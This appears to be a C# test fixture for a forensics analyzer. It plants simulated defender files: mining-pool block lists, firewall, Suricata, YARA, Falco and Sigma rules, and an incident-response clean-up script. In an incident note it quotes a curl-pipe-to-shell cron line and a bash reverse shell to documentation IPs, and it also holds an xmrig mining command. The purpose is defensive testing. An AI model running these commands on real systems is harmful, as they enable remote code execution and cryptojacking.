using System.Globalization;
using System.Text;
using Forensics.Parsers;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Hosts of those who fight what this program looks for: their files are full of its words.</summary>
internal static class SecurityHosts
{
    private static readonly string[] s_pools = ["pool.supportxmr.com", "xmr.nanopool.org", "pool.minexmr.com", "gulf.moneroocean.stream", "mine.c3pool.com", "pool.hashvault.pro", "de.monero.herominers.com", "xmr.2miners.com", "coinhive.com", "coin-hive.com", "cnhv.co", "jsecoin.com"];

    public static void BlockLists(PlantTree tree)
    {
        var hosts = new StringBuilder("127.0.0.1 localhost\n127.0.1.1 web01\n::1 ip6-localhost ip6-loopback\n# Start of the block list\n");
        for (int i = 0; i < 6000; i++)
        {
            hosts.Append(CultureInfo.InvariantCulture, $"0.0.0.0 ads{i}.tracker{i % 97}.example\n");
        }
        foreach (string pool in s_pools)
        {
            hosts.Append("0.0.0.0 ").Append(pool).Append('\n');
        }
        tree.File("/etc/hosts", hosts.ToString()).File("/etc/dnsmasq.d/blocklist.conf", string.Concat(s_pools.Select(pool => $"address=/{pool}/0.0.0.0\n"))).File("/etc/bind/db.rpz", string.Concat(s_pools.Select(pool => pool + " CNAME .\n")))
            .File("/etc/cron.d/pihole", "59 1 * * 7 root PATH=\"$PATH:/usr/sbin:/usr/local/bin/\" pihole updateGravity >/var/log/pihole/pihole_updateGravity.log || cat /var/log/pihole/pihole_updateGravity.log\n@reboot root /usr/sbin/logrotate --state /var/lib/logrotate/pihole /etc/pihole/logrotate\n")
            .Script("/usr/local/bin/pihole", "#!/usr/bin/env bash\nreadonly PI_HOLE_SCRIPT_DIR=/opt/pihole\nupdateGravityFunc() { exec ${PI_HOLE_SCRIPT_DIR}/gravity.sh \"$@\"; }\ncase $1 in updateGravity) shift; updateGravityFunc \"$@\" ;; esac\n")
            .Script("/opt/pihole/gravity.sh", "#!/usr/bin/env bash\ncurl -s -L https://raw.example/StevenBlack/hosts -o /tmp/gravity.list\nsort -u /tmp/gravity.list > /etc/pihole/gravity.list\n")
            .File("/etc/crontab.d-note", "").Script("/etc/cron.daily/update-hosts", "#!/bin/sh\nset -e\nwget -qO /tmp/hosts.new https://lists.example/hosts.txt\ngrep -q localhost /tmp/hosts.new && cat /tmp/hosts.new > /etc/hosts\n")
            .File("/etc/iptables/rules.v4", string.Concat(((string[])["3333", "4444", "5555", "14444"]).Select(port => $"-A OUTPUT -p tcp --dport {port} -j REJECT\n")))
            .File("/etc/squid/blocked.txt", string.Join('\n', s_pools) + "\n").File("/etc/suricata/rules/miner.rules", "alert tcp any any -> any any (msg:\"stratum login\"; content:\"mining.subscribe\"; content:\"stratum+tcp://\"; sid:1000001;)\n");
    }

    public static void Vaccines(PlantTree tree)
    {
        foreach (string path in (string[])["/tmp/kdevtmpfsi", "/tmp/kinsing", "/var/tmp/kinsing", "/var/tmp/kdevtmpfsi", "/dev/shm/kdevtmpfsi"])
        {
            tree.Add(new PlantedFile(path, FileType.Regular) { Mode = 0, Flags = InodeFlags.Immutable, Created = PlantTree.Planted, Modified = PlantTree.Planted });
        }
        tree.Add(new PlantedFile("/tmp/xmrig", FileType.Regular) { Content = "x"u8.ToArray(), Mode = 0, Flags = InodeFlags.Immutable, Created = PlantTree.Planted });
        foreach (string path in (string[])["/tmp/.X11-unix", "/tmp/.ICE-unix", "/tmp/.XIM-unix", "/tmp/.font-unix", "/tmp/.Test-unix", "/tmp/systemd-private-0a1b-nginx.service-Ab12/tmp"])
        {
            tree.Folder(path, 0x3FF);
        }
    }

    public static void IncidentResponse(PlantTree tree)
    {
        tree.Script("/root/ir/clean.sh", """
            #!/bin/bash
            # clean-up after the incident of March: kills the miner and its rivals, removes what it left
            for name in kinsing kdevtmpfsi xmrig kswapd0 kthreaddi sysrv dbused watchbog; do
              pkill -9 -f "$name"
            done
            rm -rf /tmp/kinsing /tmp/kdevtmpfsi /var/tmp/kinsing /tmp/.X2*-unix /tmp/.ICEd-unix
            crontab -l | sed '/203.0.113.9/d' | sed '/pastebin/d' | crontab -
            chattr -ia /etc/ld.so.preload /var/spool/cron/crontabs/root /root/.ssh/authorized_keys
            : > /etc/ld.so.preload
            netstat -antp | grep -E ':3333|:4444|:5555|:14444' | awk '{print $7}' | cut -d/ -f1 | xargs -r kill -9
            ps aux | grep -E 'stratum\+tcp|donate-level|xmr.nanopool.org|pool.supportxmr.com' | grep -v grep | awk '{print $2}' | xargs -r kill -9
            docker ps -a | grep -E 'pocosow|gakeaws|azulu' | awk '{print $1}' | xargs -r docker rm -f

            """)
            .File("/root/ir/iocs.txt", "md5,ccef46c7edf9131ccffc47bd69eb743b,kinsing\n203.0.113.9,c2\nstratum+tcp://xmr.nanopool.org:14444\npool.supportxmr.com:3333\n/etc/libsystem.so\n/tmp/kdevtmpfsi\n")
            .File("/root/ir/rules/miner.yar", "rule miner { strings: $a = \"stratum+tcp://\" $b = \"xmrig\" $c = \"donate-level\" $d = \"randomx\" condition: 2 of them }\n")
            .File("/root/ir/notes.md", "The crontab was `*/2 * * * * curl -fsSL http://203.0.113.9/b.sh | sh`; ld.so.preload named /etc/libsystem.so.\nReverse shell: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")
            .File("/etc/falco/falco_rules.yaml", "- list: miner_domains\n  items: [\"pool.supportxmr.com\", \"xmr.nanopool.org\", \"mine.c3pool.com\"]\n- rule: Detect crypto miners using the Stratum protocol\n  condition: spawned_process and (proc.cmdline contains \"stratum+tcp\" or proc.cmdline contains \"stratum+ssl\")\n")
            .File("/opt/sigma/rules/proc_creation_lnx_crypto_mining.yml", "detection:\n  selection:\n    CommandLine|contains: [' --cpu-priority=', '--donate-level=0', ' -o pool.', 'stratum+tcp://', ' --nicehash']\n")
            .File("/var/lib/clamav/local.ndb", "Miner.XMRig:6:*:786d7269672e646f6e617465\n").File("/usr/share/doc/xmrig-notes/README", "xmrig -o pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x --donate-level 1\n")
            .File("/root/.bash_history", "ls -la /tmp\ngrep -r 'stratum+tcp' / 2>/dev/null\nps aux | grep -i xmrig\npkill -9 kdevtmpfsi\nchattr -i /var/spool/cron/crontabs/root\ncrontab -l\ncat /etc/ld.so.preload\n./clean.sh\n", 0b110_000_000)
            .Script("/etc/cron.hourly/rkhunter-lite", "#!/bin/sh\nfor f in /tmp/kdevtmpfsi /tmp/kinsing /etc/libsystem.so; do [ -e \"$f\" ] && logger -p auth.alert \"found $f\"; done\nif ss -tn | grep -qE ':(3333|4444|14444) '; then logger -p auth.alert 'pool port in use'; fi\nexit 0\n");
    }
}
